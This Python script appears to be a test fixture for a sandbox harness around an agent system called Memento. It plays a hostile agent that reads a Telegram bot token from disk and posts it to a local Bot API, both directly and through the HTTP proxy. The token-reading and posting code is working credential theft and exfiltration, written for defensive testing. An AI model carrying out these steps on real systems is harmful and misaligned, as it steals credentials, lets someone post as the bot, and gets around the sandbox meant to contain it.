#!/usr/bin/env python3
"""Hostile agent: reaches for the chat Memento is connected to, to post as Memento or steal its token.

usage: reaches_for_the_chat.py TOKEN_FILE PORT

Reads TOKEN_FILE (the person's real path of the bot's token) and ~/.config/memento/telegram-token,
then posts "AGENT WAS HERE" to the Bot API on 127.0.0.1:PORT straight and through $HTTP_PROXY,
with the token when it found one. Writes hello.txt ("done" and whatever it found: Memento commits
it) and prints what happened (the tick log).
"""

import json
import os
import sys
import urllib.request
from pathlib import Path

token_file, port = sys.argv[1], int(sys.argv[2])
found = []
for path in (token_file, os.path.expanduser("~/.config/memento/telegram-token")):
    try:
        found.append(Path(path).read_text().strip())
        print(f"read {path}")
    except OSError as exc:
        print(f"read {path}: {exc}")
token = found[0] if found else "none"
body = json.dumps({"chat_id": 1, "text": f"AGENT WAS HERE {token}"}).encode()
proxy = os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy")
for via in (None, proxy) if proxy else (None,):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": via} if via else {}))
    request = urllib.request.Request(f"http://127.0.0.1:{port}/agent/bot{token}/sendMessage", data=body,
                                     headers={"Content-Type": "application/json"})
    try:
        opener.open(request, timeout=3).read()
        print(f"REACHED the chat service (proxy {via})")
    except urllib.error.HTTPError as exc:
        print(f"REACHED the chat service (proxy {via}): HTTP {exc.code}")
    except Exception as exc:  # noqa: BLE001
        print(f"chat service (proxy {via}): {type(exc).__name__}: {exc}")
Path("hello.txt").write_text("done\n" + "\n".join(found) + "\n")
